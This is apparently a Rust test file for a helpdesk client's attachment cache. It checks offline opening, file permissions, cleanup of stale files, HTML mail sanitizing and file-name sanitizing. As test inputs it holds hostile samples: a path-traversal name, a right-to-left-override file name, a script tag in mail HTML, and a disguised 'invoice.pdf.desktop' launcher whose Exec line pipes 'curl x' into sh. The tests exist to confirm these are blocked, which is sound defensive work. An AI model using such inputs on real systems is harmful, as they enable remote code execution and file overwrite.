//! Files against the real reference server and a real cache: downloaded
//! once, checked, kept, then opened offline; a customer's HTML mail
//! sanitized from the cache.

use shiftdesk_domain::inbound_html::{HTML_PART_MEDIA_TYPE, HTML_PART_NAME};
use shiftdesk_domain::{
    AgentId, Author, Category, Channel, CustomerId, Message, MessageKind, Plan, Priority, Service,
    ServiceStage, Thread, Ticket, TicketNumber, TicketStatus, Timestamp,
};

use super::*;
use crate::pull::{pull_until_current, PAGE};
use crate::test_server::{agent_client, server, Server};

const ME: AgentId = shiftdesk_demo::ME;

struct Desk {
    server: Server,
    api: ApiClient,
    store: Store,
    dir: tempfile::TempDir,
}

async fn desk() -> Desk {
    let server = server().await;
    let (api, store, dir) = agent_client(&server).await;
    pull_until_current(&api, &store, PAGE).await.unwrap();
    Desk {
        server,
        api,
        store,
        dir,
    }
}

impl Desk {
    fn online(&self) -> Attachments<'_> {
        Attachments {
            store: &self.store,
            api: Some(&self.api),
        }
    }

    fn offline(&self) -> Attachments<'_> {
        Attachments {
            api: None,
            ..self.online()
        }
    }

    /// A file of one of my tickets whose media type is `like`.
    async fn my_file(&self, like: &str) -> AttachmentId {
        let id: i64 = sqlx::query_scalar(
            "SELECT a.id FROM attachments a JOIN tickets t ON t.number = a.ticket_number \
             WHERE t.assignee_id = ? AND json_extract(a.body, '$.media_type') LIKE ? \
             ORDER BY a.id LIMIT 1",
        )
        .bind(ME.0)
        .bind(like)
        .fetch_one(&self.server.db.readers)
        .await
        .unwrap();
        AttachmentId(id)
    }
}

impl Desk {
    /// A log the customer of my first open ticket sends now, synced to the
    /// cache: there by construction, whatever the demo desk holds.
    async fn customer_sends_a_log(&self) -> AttachmentId {
        let db = &self.server.db;
        let bytes = b"2026-11-24 09:00:01 ERROR 502 from upstream vm-7f3a21\n".to_vec();
        let file = shiftdesk_server::messages::FileRef {
            size_bytes: bytes.len() as u64,
            content_hash: db.files.put_bytes(bytes).await.unwrap(),
            name: "vm-7f3a21.log".into(),
            media_type: "text/plain".into(),
        };
        let mut tx = db.writer.begin_with("BEGIN IMMEDIATE").await.unwrap();
        let body: String = sqlx::query_scalar(
            "SELECT body FROM tickets WHERE assignee_id = ? \
             AND json_extract(body, '$.status') IN ('new', 'open') ORDER BY number LIMIT 1",
        )
        .bind(ME.0)
        .fetch_one(&mut *tx)
        .await
        .unwrap();
        let ticket: Ticket = serde_json::from_str(&body).unwrap();
        let number = ticket.number;
        shiftdesk_server::intake::customer_writes(
            &mut tx,
            ticket,
            Channel::Portal,
            "The log you asked for.",
            &[file],
            shiftdesk_server::now(),
        )
        .await
        .unwrap()
        .unwrap();
        tx.commit().await.unwrap();
        pull_until_current(&self.api, &self.store, PAGE)
            .await
            .unwrap();
        let id: i64 = sqlx::query_scalar(
            "SELECT max(id) FROM attachments WHERE ticket_number = ? \
             AND json_extract(body, '$.name') = 'vm-7f3a21.log'",
        )
        .bind(number.0)
        .fetch_one(&db.readers)
        .await
        .unwrap();
        AttachmentId(id)
    }
}

#[tokio::test]
async fn a_file_downloaded_once_opens_offline() {
    let desk = desk().await;
    let id = desk.customer_sends_a_log().await;

    let err = desk.offline().bytes(id).await.unwrap_err();
    assert_eq!(err.code(), "attachment.not_cached", "{err}");

    let (attachment, bytes) = desk.online().bytes(id).await.unwrap();
    assert_eq!(bytes.len() as u64, attachment.size_bytes);
    assert_eq!(AttachmentFiles::hash(&bytes), attachment.content_hash);
    assert!(desk
        .store
        .files()
        .path_of(&attachment.content_hash)
        .exists());

    // The server is gone: the cached copy still opens.
    let gone = ApiClient::new("http://127.0.0.1:9", "sdk_gone").unwrap();
    let unreachable = Attachments {
        api: Some(&gone),
        ..desk.online()
    };
    assert_eq!(unreachable.bytes(id).await.unwrap().1, bytes);
    assert_eq!(desk.offline().bytes(id).await.unwrap().1, bytes);

    let open_dir = desk.dir.path().join("opened");
    let Opening::File { path } = desk.offline().open(id, &open_dir).await.unwrap() else {
        panic!("a text file opens in the system's app");
    };
    assert!(path.starts_with(&open_dir));
    assert_eq!(std::fs::read(&path).unwrap(), bytes);
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&path).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }

    // Written for the system's app: kept through the shift, then forgotten
    // (the cache still has it, to open again). Now is when the file was
    // written, by the file system's clock, which the ages are read from.
    let now = std::fs::metadata(&path).unwrap().modified().unwrap();
    assert_eq!(forget_opened(&open_dir, KEEP_OPENED, now).unwrap(), 0);
    assert!(path.exists());
    let stale = open_dir.join("stale").join("old.log");
    std::fs::create_dir_all(stale.parent().unwrap()).unwrap();
    std::fs::write(&stale, b"old").unwrap();
    let two_days_ago = now - 2 * KEEP_OPENED;
    std::fs::File::options()
        .write(true)
        .open(&stale)
        .unwrap()
        .set_modified(two_days_ago)
        .unwrap();
    std::fs::File::open(stale.parent().unwrap())
        .unwrap()
        .set_modified(two_days_ago)
        .unwrap();
    assert_eq!(forget_opened(&open_dir, KEEP_OPENED, now).unwrap(), 1);
    assert!(!stale.parent().unwrap().exists());
    assert!(path.exists(), "a file opened today stays");
    let tomorrow = now + 2 * KEEP_OPENED;
    assert_eq!(forget_opened(&open_dir, KEEP_OPENED, tomorrow).unwrap(), 1);
    assert!(!path.exists());
    assert_eq!(
        forget_opened(&desk.dir.path().join("never"), KEEP_OPENED, now).unwrap(),
        0
    );
    assert_eq!(desk.offline().bytes(id).await.unwrap().1, bytes);
}

#[tokio::test]
async fn a_screenshot_opens_in_the_window_and_a_damaged_copy_is_fetched_again() {
    let desk = desk().await;
    let id = desk.my_file("image/png").await;
    let (attachment, bytes) = desk.online().bytes(id).await.unwrap();
    std::fs::write(
        desk.store.files().path_of(&attachment.content_hash),
        b"damaged",
    )
    .unwrap();

    let opening = desk.online().open(id, desk.dir.path()).await.unwrap();
    assert_eq!(
        opening,
        Opening::Image {
            media_type: "image/png".into(),
            bytes: bytes.clone()
        }
    );
    assert_eq!(desk.offline().bytes(id).await.unwrap().1, bytes);
}

#[tokio::test]
async fn an_unreachable_server_and_an_unknown_file_say_so() {
    let desk = desk().await;
    let id = desk.my_file("%").await;
    let gone = ApiClient::new("http://127.0.0.1:9", "sdk_gone").unwrap();
    let unreachable = Attachments {
        api: Some(&gone),
        ..desk.online()
    };
    let err = unreachable.bytes(id).await.unwrap_err();
    assert_eq!(err.code(), "attachment.not_cached");
    assert!(err.to_string().contains("cannot be reached"), "{err}");
    let err = desk
        .online()
        .bytes(AttachmentId(i64::MAX))
        .await
        .unwrap_err();
    assert_eq!(err.code(), "attachment.unknown");
}

/// A customer's mail with its HTML part, as sync writes it into the cache.
fn mail_thread(html: &[u8], files: &AttachmentFiles) -> Thread {
    let number = TicketNumber(990_001);
    let at = Timestamp(1_700_000_000_000);
    let message = MessageId(99_000_100);
    let part = Attachment {
        id: AttachmentId(99_000_101),
        message,
        name: HTML_PART_NAME.into(),
        size_bytes: html.len() as u64,
        content_hash: AttachmentFiles::hash(html),
        media_type: HTML_PART_MEDIA_TYPE.into(),
    };
    files.put(html).unwrap();
    Thread {
        ticket: Ticket {
            number,
            subject: "Счёт за март".into(),
            status: TicketStatus::Open,
            priority: Priority::Normal,
            category: Category::Billing,
            plan: Plan::Standard,
            service: Service {
                name: "Billing".into(),
                stage: ServiceStage::GeneralAvailability,
            },
            customer: CustomerId(1),
            channel: Channel::Email,
            assignee: Some(ME),
            team: "L2".into(),
            tags: vec![],
            version: 1,
            created_at: at,
            updated_at: at,
            sla_due_at: None,
            email_cc: Vec::new(),
            status_log: vec![],
        },
        messages: vec![Message {
            id: message,
            ticket: number,
            kind: MessageKind::Inbound,
            channel: Channel::Email,
            author: Author::Customer { id: CustomerId(1) },
            body: "Счёт во вложении".into(),
            created_at: at,
        }],
        attachments: vec![part],
    }
}

#[tokio::test]
async fn a_mails_html_part_is_sanitized_from_the_cache() {
    let desk = desk().await;
    let html =
        br#"<p>Invoice</p><img src="http://tracker.example/open.gif"><script>alert(1)</script>
        <a href="https://billing.example.com/pay">pay</a>"#;
    let thread = mail_thread(html, desk.store.files());
    desk.store
        .upsert_threads(std::slice::from_ref(&thread))
        .await
        .unwrap();
    let message = thread.messages[0].id;

    let conversation = desk.store.conversation(thread.ticket.number).await.unwrap();
    assert_eq!(conversation[0].html_part, Some(thread.attachments[0].id));

    let safe = desk.offline().message_html(message).await.unwrap().unwrap();
    assert!(safe.html.contains("<p>Invoice</p>"), "{}", safe.html);
    assert!(!safe.html.contains("script"), "{}", safe.html);
    assert!(!safe.html.contains("tracker"), "{}", safe.html);
    assert_eq!(safe.blocked_images, 1);
    assert_eq!(safe.links, ["https://billing.example.com/pay"]);

    // A message without an HTML part, and one not in the cache.
    let plain = desk.my_text_message().await;
    assert_eq!(desk.offline().message_html(plain).await.unwrap(), None);
    assert_eq!(
        desk.offline().message_html(MessageId(-77)).await.unwrap(),
        None
    );
}

#[tokio::test]
async fn an_html_part_over_the_limit_is_refused_before_downloading() {
    let desk = desk().await;
    let big = "<p>x</p>".repeat(usize::try_from(MAX_INBOUND_HTML_BYTES).unwrap() / 8 + 1);
    let mut thread = mail_thread(big.as_bytes(), desk.store.files());
    desk.store
        .files()
        .remove(&thread.attachments[0].content_hash)
        .unwrap();
    thread.attachments[0].size_bytes = big.len() as u64;
    desk.store
        .upsert_threads(std::slice::from_ref(&thread))
        .await
        .unwrap();
    let err = desk
        .online()
        .message_html(thread.messages[0].id)
        .await
        .unwrap_err();
    assert_eq!(err.code(), "email_html.too_large");
}

impl Desk {
    /// One of my cached messages with no HTML part.
    async fn my_text_message(&self) -> MessageId {
        let ticket: i64 = sqlx::query_scalar(
            "SELECT number FROM tickets WHERE assignee_id = ? ORDER BY number LIMIT 1",
        )
        .bind(ME.0)
        .fetch_one(&self.server.db.readers)
        .await
        .unwrap();
        let conversation = self.store.conversation(TicketNumber(ticket)).await.unwrap();
        conversation
            .iter()
            .find(|m| m.html_part.is_none())
            .map(|m| m.id)
            .unwrap()
    }
}

#[test]
fn a_customers_file_name_is_written_as_a_plain_name() {
    for (name, written) in [
        ("../../.bashrc", "_.._.bashrc"),
        ("логи/vm-7f3a21.txt", "логи_vm-7f3a21.txt"),
        (".hidden", "hidden"),
        ("", "attachment"),
        ("report\u{202E}fdp.exe", "report_fdp.exe"),
        ("C:\\Windows\\evil.dll", "C__Windows_evil.dll"),
    ] {
        assert_eq!(file_name(name), written, "{name}");
    }
}

#[tokio::test]
async fn a_launcher_is_never_written_out() {
    let desk = desk().await;
    let mut thread = mail_thread(
        b"[Desktop Entry]\nExec=sh -c 'curl x|sh'\n",
        desk.store.files(),
    );
    thread.attachments[0].name = "invoice.pdf.desktop".into();
    thread.attachments[0].media_type = "application/x-desktop".into();
    desk.store
        .upsert_threads(std::slice::from_ref(&thread))
        .await
        .unwrap();
    let open_dir = desk.dir.path().join("opened");
    let err = desk
        .offline()
        .open(thread.attachments[0].id, &open_dir)
        .await
        .unwrap_err();
    assert_eq!(err.code(), "attachment.launcher");
    assert!(!open_dir.exists());
}
